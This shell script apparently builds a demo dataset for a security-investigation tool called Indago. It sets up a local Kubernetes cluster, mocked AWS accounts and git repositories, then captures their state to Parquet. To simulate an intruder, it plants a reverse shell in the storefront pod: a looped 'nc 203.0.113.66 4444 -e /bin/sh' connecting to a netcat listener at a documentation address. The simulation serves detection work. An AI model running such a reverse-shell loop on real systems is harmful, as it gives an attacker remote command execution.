# make.sh INDAGO OUT: the demo estate, from beds that run (their environment is set: `beds up cluster moto`) to Parquet in OUT.
#
# The work folder WORK holds what a live query needs too: all.toml, and env to be sourced.
set -euo pipefail
INDAGO=$(realpath "$1"); mkdir -p "$2"; OUT=$(realpath "$2")
HERE=$(dirname "$(realpath "$0")")
WORK=${WORK:-$(mktemp -d)}
BEDS=${INDAGO_BEDS:-${XDG_CACHE_HOME:-$HOME/.cache}/indago/beds}
PYTHON=$BEDS/moto/bin/python
mkdir -p "$WORK/srv/git"
say() { printf 'demo-estate: %s\n' "$*" >&2; }
# inside PROGRAM ...: within the node's namespaces
inside() { nsenter -t "$INDAGO_CLUSTER_PID" -n -m -C "$@"; }
until_ok() { local end=$((SECONDS + $1)); shift; until "$@" > /dev/null 2>&1; do [ $SECONDS -lt $end ] || { say "gave up on: $*"; "$@"; }; sleep 0.5; done; }

say 'repositories and images'
(cd "$WORK/srv/git" && rm -rf storefront platform && bash "$HERE/repositories.sh") > "$WORK/commits"
# shellcheck disable=SC2046
export $(cat "$WORK/commits")
"$PYTHON" "$HERE/images.py" "$BEDS/busybox.tar" "$WORK/images.tar"
inside ctr -n k8s.io images import "$WORK/images.tar" > /dev/null

say 'accounts'
# The base profile's key is what opens each account.
"$PYTHON" "$HERE/aws.py" > "$WORK/machine"
# shellcheck disable=SC2046
export $(cat "$WORK/machine")

say 'cluster'
# What the bed brings along is no part of the company.
kubectl delete --ignore-not-found --wait=false pod/priv deployment/web service/web serviceaccount/deployer secret/web configmap/web role/bed-tenant rolebinding/bed-tenant -n shop > /dev/null
kubectl delete --ignore-not-found clusterrole/bed-viewer clusterrole/bed-auditor clusterrolebinding/bed-viewers clusterrolebinding/bed-auditors clusterrolebinding/deployer-is-admin > /dev/null
node=$(kubectl get nodes -o 'jsonpath={.items[0].metadata.name}')
kubectl patch node "$node" -p "{\"spec\":{\"providerID\":\"aws:///$ZONE/$INSTANCE\"}}" > /dev/null
kubectl label --overwrite node "$node" node.kubernetes.io/instance-type=m6i.xlarge topology.kubernetes.io/region=us-east-1 "topology.kubernetes.io/zone=$ZONE" > /dev/null
"$PYTHON" "$HERE/workloads.py" | kubectl apply -f - > /dev/null
only_ready() { [ -z "$(kubectl get pods -A --no-headers | awk '{split($3, n, "/"); if ($4 != "Running" || n[1] != n[2]) print}')" ] && [ "$(kubectl get pods -A --no-headers | wc -l)" -ge 13 ]; }
until_ok 180 only_ready

say 'the intruder'
inside ip addr add 203.0.113.66/32 dev lo 2> /dev/null || true
# The other end of the connection. It is no part of the estate.
inside busybox nc -ll -s 203.0.113.66 -p 4444 -e /bin/cat < /dev/null > /dev/null 2>&1 &
listener=$!
pod=$(kubectl get pods -n shop -l app=storefront -o 'jsonpath={.items[0].metadata.name}')
kubectl exec -n shop "$pod" -- /bin/sh -c 'while true; do nc 203.0.113.66 4444 -e /bin/sh; sleep 30; done' < /dev/null > /dev/null 2>&1 &
echo "$listener $!" > "$WORK/pids"
shell_up() { kubectl exec -n shop "$pod" -- /bin/ps | grep -v grep | grep -q 'nc 203.0.113.66\|/bin/sh$'; }
until_ok 30 shell_up
sleep 2

say 'capture'
sed 's/admin@[^ ]*/acme-prod/; s/^\( *current-context: \).*/\1acme-prod/' "$KUBECONFIG" > /dev/null
kubeconfig() { kubectl --kubeconfig "$1" config view --raw -o json | "$PYTHON" -c '
import json, sys
config = json.load(sys.stdin)
cluster, user = config["clusters"][0], config["users"][0]
cluster["name"], user["name"] = "acme-prod", "auditor"
config["contexts"] = [{"name": "acme-prod", "context": {"cluster": "acme-prod", "user": "auditor"}}]
config["current-context"] = "acme-prod"
json.dump(config, sys.stdout)'; }
kubeconfig "$KUBECONFIG" > "$WORK/outside.conf"
kubeconfig "$(dirname "$(dirname "$KUBECONFIG")")/admin.conf" > "$WORK/inside.conf"
cat > "$AWS_CONFIG_FILE.new" <<C
[profile prod]
region = us-east-1
endpoint_url = $AWS_ENDPOINT_URL
role_arn = arn:aws:iam::222222222222:role/indago
source_profile = default
[profile staging]
region = us-east-1
endpoint_url = $AWS_ENDPOINT_URL
role_arn = arn:aws:iam::333333333333:role/indago
source_profile = default
C
mv "$AWS_CONFIG_FILE.new" "$WORK/aws"
cat > "$WORK/all.toml" <<C
[kubernetes]
kubeconfig = "$WORK/outside.conf"
[containers]
sockets = ["$CONTAINERD_ADDRESS"]
[aws]
profiles = ["prod", "staging"]
[git]
roots = ["/srv/git"]
C
cat > "$WORK/inside.toml" <<C
[kubernetes]
kubeconfig = "$WORK/inside.conf"
[containers]
sockets = ["/run/containerd/containerd.sock"]
C
{
    printf 'unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY\n'
    printf 'export AWS_CONFIG_FILE=%q INDAGO_CONFIG=%q\n' "$WORK/aws" "$WORK/all.toml"
} > "$WORK/env"
# Repositories lie under /srv on this company's machines.
srv() { unshare -m sh -c 'mount --bind "$0/srv" /srv && cd / && exec "$@"' "$WORK" "$@"; }

raw=$WORK/raw
rm -rf "$raw" && mkdir -p "$raw"
cd /
inside env -u CONTAINERD_ADDRESS INDAGO_CONFIG="$WORK/inside.toml" "$INDAGO" capture --strict --out "$raw" \
    kubernetes_namespaces kubernetes_nodes kubernetes_pods kubernetes_pod_containers kubernetes_service_accounts kubernetes_deployments \
    kubernetes_role_policy_rules kubernetes_cluster_role_policy_rules kubernetes_role_binding_subjects kubernetes_cluster_role_binding_subjects kubernetes_api_resources
inside env -u CONTAINERD_ADDRESS INDAGO_CONFIG="$WORK/inside.toml" "$INDAGO" capture --out "$raw" \
    processes process_namespaces process_open_sockets process_envs listening_ports container_processes containers uptime time
(. "$WORK/env"; srv "$INDAGO" capture --strict --out "$raw" \
    aws_account aws_sts_caller_identity aws_iam_user aws_iam_role aws_iam_policy_attachment aws_iam_policy aws_iam_instance_profile \
    aws_ec2_instance aws_vpc_security_group aws_vpc_security_group_rule \
    git_repositories git_commits git_commit_files git_refs git_remotes)

say 'filter'
rm -f "$OUT"/*.parquet
# keep TABLE CONDITION: the estate's rows alone
keep() { "$INDAGO" query --store "$raw" --parquet "$OUT/$1.parquet" "SELECT * FROM $1 WHERE $2" > /dev/null; rm "$raw/$1.parquet"; }
theirs='SELECT pid FROM container_processes WHERE pod_uid IN (SELECT uid FROM kubernetes_pods)'
for table in process_namespaces process_open_sockets process_envs listening_ports; do keep $table "pid IN ($theirs)"; done
# The containers' processes, and the shims that they hang on.
keep processes "pid IN ($theirs) OR pid IN (SELECT parent FROM processes WHERE pid IN ($theirs))"
keep aws_iam_policy "NOT is_aws_managed OR is_attached"
keep containers "pod_uid IN (SELECT uid FROM kubernetes_pods)"
keep container_processes "pod_uid IN (SELECT uid FROM kubernetes_pods)"
mv "$raw"/*.parquet "$OUT/"
if grep -l -a -e /root/ -e /work/ "$OUT"/*.parquet; then say 'these hold paths of this machine'; fi
say "$(du -sh "$OUT" | cut -f1) in $OUT"
